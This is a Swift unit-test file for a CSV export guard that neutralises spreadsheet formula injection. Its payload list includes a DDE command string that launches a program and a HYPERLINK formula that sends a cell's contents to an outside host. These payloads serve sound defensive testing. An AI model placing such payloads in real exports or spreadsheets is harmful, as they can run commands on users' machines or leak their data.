import Testing

@testable import SurveyExchange

@Suite struct FormulaGuardTests {
    /// What a spreadsheet would, or might, run: every first character alone and in the known payloads, also behind
    /// spaces, quotes and what nobody sees.
    static let payloads: [String] = {
        let starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
        let bodies = [
            "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.org?x=\"&A1,\"x\")",
        ]
        let prefixes = [" ", "\"", "'", "  \"", "\u{A0}", "\u{FEFF}", "\u{200B}", "\u{201C}", "\" '"]
        return starts.flatMap { start in bodies.map { start + $0 } }
            + prefixes.flatMap { prefix in ["=", "+", "-", "@"].map { "\(prefix)\($0)SUM(1)" } }
    }()

    @Test("there are more than 60 payloads")
    func many() { #expect(Set(Self.payloads).count > 60) }

    @Test("what would run as a formula begins with an apostrophe, and is else as it was", arguments: payloads)
    func harmless(payload: String) { #expect(FormulaGuard.harmless(payload) == "'" + payload) }

    @Test(
        "other texts stay as they are",
        arguments: ["", " ", "\"", "Ja", "2-3", "a=b", "e@post.no", " ja - nei", "«=»", "æ+ø", "(=1)", "0", "#N/A"])
    func plain(text: String) { #expect(FormulaGuard.harmless(text) == text) }

    @Test("in a cell of both dialects the apostrophe is inside the quotes, and raw leaves it out")
    func cells() {
        let cell = { (dialect: CSVDialect, isRaw: Bool) in
            String(decoding: CSVCellText(dialect: dialect, isRaw: isRaw).text("=1;2,\"3\""), as: UTF8.self)
        }
        #expect(cell(.excel, false) == "\"'=1;2,\"\"3\"\"\"")
        #expect(cell(.machine, false) == "\"'=1;2,\"\"3\"\"\"")
        #expect(cell(.machine, true) == "\"=1;2,\"\"3\"\"\"")
    }

    @Test("numbers of number columns are no formulas")
    func numbers() {
        #expect(CSVCellText(dialect: .excel, isRaw: false).number(-2.5) == Array("-2,5".utf8))
        #expect(CSVCellText(dialect: .machine, isRaw: false).number(-1e-7) == Array("-0.0000001".utf8))
    }
}
